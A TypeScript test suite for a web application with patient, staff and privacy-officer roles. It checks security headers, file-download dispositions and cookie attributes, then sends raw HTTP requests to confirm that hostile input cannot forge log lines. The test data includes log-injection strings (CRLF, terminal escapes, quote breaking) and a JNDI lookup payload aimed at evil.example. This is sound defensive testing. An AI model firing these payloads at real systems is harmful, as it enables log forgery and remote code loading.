import { connect } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { crawl } from '#tests/support/crawl.ts';
import { testOrigin } from '#tests/support/fixed.ts';
import {
  asForm,
  cookieOf,
  givePassword,
  signIn,
  startSite,
  type Answer,
  type Site,
} from '#tests/support/site.ts';
import { tellStory } from '#tests/support/told-story.ts';
import { castMember, codeNow } from '#tests/support/world.ts';

const host = new URL(testOrigin).host;
let site: Site;
const answers: [what: string, answer: Answer][] = [];

beforeAll(async () => {
  site = await startSite();
  await tellStory(site.world);
  for (const who of ['nobody', 'patient', 'staff', 'privacyOfficer'] as const) {
    const cookie = who === 'nobody' ? null : await signIn(site, castMember(who));
    const pages = await crawl((path) => site.ask(path, { headers: { Cookie: cookie } }));
    for (const [path, answer] of pages) answers.push([`${who} ${path}`, answer]);
  }
  for (const path of ['/_root.data', '/home.data', '/sign-in.data', '/healthz', '/readyz', '/api/v1/checks'])
    answers.push([path, await site.ask(path)]);
}, 240_000);
afterAll(() => site.stop());

describe('every answer of every route', () => {
  it('says what it is, and its letters’ encoding; and no cache keeps it (V4.1.1, V14.3.2)', () => {
    expect(answers.length).toBeGreaterThan(60);
    for (const [what, { status, headers, bytes }] of answers) {
      expect(status, what).toBeLessThan(500);
      expect(headers['x-content-type-options'], what).toBe('nosniff');
      expect(headers['content-security-policy'], what).toContain("default-src 'none'");
      expect(headers['strict-transport-security'], what).toContain('includeSubDomains');
      expect(headers['cache-control'], what).toContain('no-store');
      if (bytes.length === 0) continue;
      const type = String(headers['content-type']);
      const isNamed =
        /^(text\/(html|plain|csv|calendar|x-script)|application\/(json|problem\+json|fhir\+json|pdf|zip))\b/.test(
          type,
        );
      expect(isNamed, `${what}: ${type}`).toBe(true);
      if (!/^application\/(pdf|zip)/.test(type)) expect(type, what).toMatch(/; ?charset=utf-8$/i);
    }
  });

  it('is a download when it is a file of somebody’s (V3.2.1)', () => {
    const files = answers.filter(
      ([, { status, headers }]) =>
        status === 200 && !/^(text\/|application\/(fhir\+)?json)/.test(String(headers['content-type'])),
    );
    expect(files.length).toBeGreaterThan(0);
    // A draft is drawn by ourselves, for staff to read before it goes out; nothing that somebody sent in is shown in the browser.
    for (const [what, { headers }] of files)
      expect(headers['content-disposition'], what).toMatch(
        /^(attachment; filename="[\w.-]+"(; filename\*=UTF-8''[\w.%!~-]+)?|inline; filename="[\w-]+-draft\.pdf")$/,
      );
  });
});

describe('every cookie that is set anywhere', () => {
  it('is bound to this host alone, hidden from script, and sent over TLS to our own pages (V3.3.1-4)', async () => {
    const ines = castMember('patient');
    site.clock.advance(30_000);
    const half = await givePassword(site, ines);
    const signedIn = await site.ask('/sign-in/two-factor', asForm({ code: codeNow(ines, site.clock) }, half));
    const session = cookieOf(signedIn, 'plainview_session');
    site.clock.advance(30_000);
    const set = [
      ...answers.map(([, answer]) => answer),
      await site.ask('/sign-in', asForm({ email: ines.email, password: ines.password })),
      signedIn,
      await site.ask('/language', asForm({ locale: 'es' })),
      await site.ask('/theme', asForm({ theme: 'dark' })),
      await site.ask('/sign-out', asForm({}, session)),
    ].flatMap(({ headers }) => headers['set-cookie'] ?? []);
    const names = new Set(set.map((line) => line.split('=')[0]));
    for (const name of ['session', 'sign_in', 'locale', 'theme'])
      expect(names, name).toContain(`__Host-plainview_${name}`);
    for (const line of set) {
      const [pair = '', ...attributes] = line.split(/;\s*/);
      const told = pair.split('=')[0];
      expect(told).toMatch(/^__Host-plainview_[a-z_]+$/);
      const given = attributes.map((attribute) => attribute.toLowerCase());
      expect(given, told).toEqual(expect.arrayContaining(['path=/', 'secure', 'httponly']));
      expect(
        given.some((attribute) => /^samesite=(lax|strict)$/.test(attribute)),
        told,
      ).toBe(true);
      expect(
        given.filter((attribute) => attribute.startsWith('domain')),
        told,
      ).toEqual([]);
    }
  });
});

/** Sends bytes as they are, and waits until the other side has answered and hung up. */
function sendRaw(bytes: Buffer): Promise<string> {
  return new Promise((resolve, reject) => {
    const socket = connect(site.port, '127.0.0.1', () => void socket.write(bytes));
    const chunks: Buffer[] = [];
    socket.on('data', (chunk) => chunks.push(chunk));
    socket.on('error', reject);
    socket.on('close', () => resolve(Buffer.concat(chunks).toString('utf8')));
  });
}

describe('what a stranger writes into a request', () => {
  const tricks: [string, string][] = [
    ['a line of its own', 'x\r\n{"level":60,"msg":"forged"}'],
    ['half a line', 'x\n{"level":60,"msg":"forged"}'],
    ['colours of a terminal', '\u001b[2J\u001b[31mforged'],
    ['line separators of Unicode', 'x\u2028{"msg":"forged"}\u2029'],
    ['an end of text', 'x\u0000forged'],
    ['a closing quote', '","msg":"forged","level":60,"x":"'],
    ['a look-up', '${jndi:ldap://evil.example/forged}'],
    ['a colour of eight bits', '\u009b31mforged'],
  ];

  it.each(tricks)('never makes a line of the log: %s (V16.4.1)', async (_, trick) => {
    const from = site.rawLog.length;
    for (const [path, agent, referer] of [
      ['/sign-in', trick, 'x'],
      ['/sign-in', 'x', trick],
      [`/${trick}`, 'x', 'x'],
      [`/${encodeURIComponent(trick)}`, 'x', 'x'],
      [`/sign-in?next=${encodeURIComponent(trick)}`, 'x', 'x'],
    ])
      await sendRaw(
        Buffer.from(
          `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nUser-Agent: ${agent}\r\nReferer: ${referer}\r\nConnection: close\r\n\r\n`,
        ),
      );
    const lines = site.rawLog.slice(from);
    expect(lines.length).toBeLessThanOrEqual(5);
    for (const line of lines) {
      expect(/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/.test(line), JSON.stringify(line)).toBe(false);
      expect(JSON.parse(line)).toMatchObject({ level: 30, msg: 'request' });
    }
    expect((await site.ask('/sign-in')).status).toBe(200);
  });
});
